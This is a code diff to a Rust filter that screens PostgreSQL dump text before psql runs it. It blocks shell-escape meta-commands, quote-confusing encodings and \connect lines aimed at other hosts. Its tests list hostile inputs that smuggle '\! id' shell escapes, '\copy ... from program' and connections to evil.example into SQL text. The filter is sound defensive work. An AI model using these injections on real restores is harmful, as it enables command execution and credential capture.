@@ -8,7 +8,14 @@ use holdfast_core::run::FailureCode;
 use crate::error::EngineError;
 
 /// What `pg_dumpall` writes.
-const ALLOWED: &[&str] = &["\\connect", "\\restrict", "\\unrestrict", "\\encoding"];
+const ALLOWED: &[&str] = &["\\restrict", "\\unrestrict"];
+/// Encodings in which a byte of a letter can look like a quote or a backslash.
+const AMBIGUOUS: &[&str] =
+    &["SJIS", "SHIFT", "BIG5", "GBK", "GB18030", "UHC", "JOHAB", "MSKANJI", "WIN949", "WIN950", "WIN932", "WIN936"];
+/// psql takes what follows for rows only if the server agreed to take them; if not, it must stop rather than read them
+/// as commands.
+const BEFORE_ROWS: &[u8] = b"\\set ON_ERROR_STOP on\n";
+const AFTER_ROWS: &[u8] = b"\\set ON_ERROR_STOP off\n";
 /// A row of a table is one line; it may hold a value of a gigabyte, which is passed on in pieces.
 const PIECE_BYTES: usize = 256 * 1024;
 
@@ -27,7 +34,7 @@ pub(super) struct PsqlGuard<R> {
 #[derive(Debug, Clone, PartialEq, Eq)]
 enum State {
     Plain,
-    Quoted { escapes: bool },
+    Quoted,
     Identifier,
     Dollar(Vec<u8>),
     Comment(u32),
@@ -59,13 +66,20 @@ impl<R: Read> PsqlGuard<R> {
         if self.state == State::Rows {
             if starts && self.ready.trim_ascii_end() == b"\\." {
                 self.state = State::Plain;
+                self.ready.extend_from_slice(AFTER_ROWS);
             }
             return Ok(());
         }
         let line = std::mem::take(&mut self.ready);
-        let looked = self.look(&line, starts, ends);
-        self.ready = line;
-        looked
+        self.look(&line, starts, ends)?;
+        if self.state == State::Rows {
+            if !line.starts_with(b"COPY ") || !line.trim_ascii_end().ends_with(b";") {
+                return refuse(b"rows of a statement over several lines");
+            }
+            self.ready.extend_from_slice(BEFORE_ROWS);
+        }
+        self.ready.extend_from_slice(&line);
+        Ok(())
     }
 
     /// Follows quotes and comments through one line of SQL.
@@ -76,13 +90,20 @@ impl<R: Read> PsqlGuard<R> {
         }
         if self.state == State::Plain && starts && line.starts_with(b"\\") {
             let word = line.split(|byte| byte.is_ascii_whitespace()).next().unwrap_or_default();
-            let is_allowed = ALLOWED.iter().any(|allowed| allowed.as_bytes() == word);
-            // One command a line: a second could hide behind its arguments.
-            let rest = line.get(word.len()..).unwrap_or_default();
-            if !is_allowed || rest.contains(&b'`') || rest.windows(2).any(|pair| pair == b" \\") {
-                return refuse(word);
+            let rest = line.get(word.len()..).unwrap_or_default().trim_ascii();
+            let is_plain =
+                ALLOWED.iter().any(|allowed| allowed.as_bytes() == word) && rest.iter().all(u8::is_ascii_alphanumeric);
+            if is_plain || (word == b"\\connect" && names_a_database(rest)) {
+                return Ok(());
             }
-            return Ok(());
+            return refuse(word);
+        }
+        if self.state == State::Plain && starts {
+            let upper = String::from_utf8_lossy(line).to_uppercase();
+            let is_encoding = upper.contains("CLIENT_ENCODING") && AMBIGUOUS.iter().any(|name| upper.contains(name));
+            if is_encoding || (upper.contains("STANDARD_CONFORMING_STRINGS") && !upper.trim_end().ends_with("= ON;")) {
+                return refuse(b"a setting that changes what quotes mean");
+            }
         }
         let mut at = 0;
         while at < line.len() {
@@ -95,15 +116,10 @@ impl<R: Read> PsqlGuard<R> {
                         self.state = State::Comment(1);
                         at += 1;
                     }
-                    b'\'' => {
-                        let before = &line[..at - 1];
-                        let is_word = |byte: Option<&u8>| byte.is_some_and(|byte| byte.is_ascii_alphanumeric());
-                        let escapes = matches!(before.last(), Some(b'e' | b'E'))
-                            && !is_word(before.len().checked_sub(2).and_then(|place| before.get(place)));
-                        self.state = State::Quoted { escapes };
-                    }
+                    b'\'' => self.state = State::Quoted,
                     b'"' => self.state = State::Identifier,
-                    b'$' => {
+                    // Within a word it is a letter like others.
+                    b'$' if !line[..at - 1].last().is_some_and(is_word) => {
                         if let Some(tag) = dollar_tag(rest) {
                             at += tag.len() - 1;
                             self.state = State::Dollar(tag.to_vec());
@@ -121,8 +137,9 @@ impl<R: Read> PsqlGuard<R> {
                     _ if self.statement.len() < PIECE_BYTES => self.statement.push(byte),
                     _ => {}
                 },
-                State::Quoted { escapes } => match byte {
-                    b'\\' if *escapes => at += 1,
+                State::Quoted => match byte {
+                    // Whether this ends the text depends on what kind it is, so it does not pass. Dumps double quotes.
+                    b'\\' if rest.get(1) == Some(&b'\'') => return refuse(b"\\'"),
                     b'\'' if rest.get(1) == Some(&b'\'') => at += 1,
                     b'\'' => self.state = State::Plain,
                     _ => {}
@@ -155,6 +172,30 @@ impl<R: Read> PsqlGuard<R> {
         }
         Ok(())
     }
+}
+
+/// What names and numbers are made of.
+fn is_word(byte: &u8) -> bool {
+    byte.is_ascii_alphanumeric() || matches!(byte, b'_' | b'$') || !byte.is_ascii()
+}
+
+/// One database by its name, and nothing else: a host in there would be given our password.
+fn names_a_database(words: &[u8]) -> bool {
+    let words = words.strip_prefix(b"-reuse-previous=on ").map_or(words, <[u8]>::trim_ascii);
+    if let Some(inner) = words.strip_prefix(b"\"dbname='").and_then(|rest| rest.strip_suffix(b"'\"")) {
+        // Quotes in a name are escaped; one that is not would end it.
+        let mut is_escaped = false;
+        return inner.iter().all(|byte| {
+            let is_end = !is_escaped && matches!(byte, b'\'' | b'"' | b'`');
+            is_escaped = *byte == b'\\' && !is_escaped;
+            !is_end
+        });
+    }
+    let name = words.strip_prefix(b"\"").and_then(|rest| rest.strip_suffix(b"\"")).unwrap_or(words);
+    let is_quoted = name.len() < words.len();
+    let is_odd =
+        |byte: &u8| matches!(byte, b'=' | b'`' | b'\'' | b'"' | b'\\' | b':' | b'/') || (!is_quoted && *byte == b' ');
+    !name.is_empty() && !name.iter().any(is_odd)
 }
 
 /// `$tag$` or `$$`.
@@ -199,11 +240,14 @@ mod tests {
     }
 
     #[test]
-    fn what_a_dump_holds_passes_unchanged() {
-        let dump = "-- it's a comment \\! id\n\\connect \"my db\"\nSET x = 'a\\b';\nSELECT E'it\\'s \\\\';\n\
+    fn what_a_dump_holds_passes() {
+        let dump = "-- it's a comment \\! id\n\\connect \"my db\"\n\\connect -reuse-previous=on \"dbname='a b'\"\n\
+            SET standard_conforming_strings = on;\nSET x = 'a\\b';\nSELECT 'it''s', a$b FROM c;\n\
             CREATE FUNCTION f() RETURNS text AS $_$ select '\\! id' $_$ LANGUAGE sql;\n\
             COPY public.t (a, b) FROM stdin;\n1\t\\N\n\\\\!\tid'\n\\.\n/* \\! /* id */ \\! */\nSELECT 1;\n";
-        assert_eq!(pass(dump).unwrap(), dump);
+        let passed = pass(dump).unwrap();
+        assert_eq!(passed.replace("\\set ON_ERROR_STOP on\n", "").replace("\\set ON_ERROR_STOP off\n", ""), dump);
+        assert_eq!(passed.matches("ON_ERROR_STOP on\nCOPY public.t").count(), 1);
     }
 
     #[test]
@@ -220,6 +264,14 @@ mod tests {
             "SELECT 'x\\'; \\! id\n",
             "\\o |id\n",
             "\\copy t from program 'id'\n",
+            "\\connect postgres app evil.example 5432\n",
+            "\\connect \"host=evil.example dbname=x\"\n",
+            "\\connect -reuse-previous=on \"dbname='x' host='evil'\"\n",
+            "SELECT 1 AS a$b$ \\! id\n",
+            "SELECT x_e'a\\' \\! id\n",
+            "SET standard_conforming_strings=off; SELECT 'a\\'' \\! id\n",
+            "SELECT E'a'\n'b\\'' \\! id\n",
+            "COPY missing\nFROM stdin;\n\\! id\n\\.\n",
         ];
         for text in hostile {
             assert!(pass(text).is_err(), "{text}");
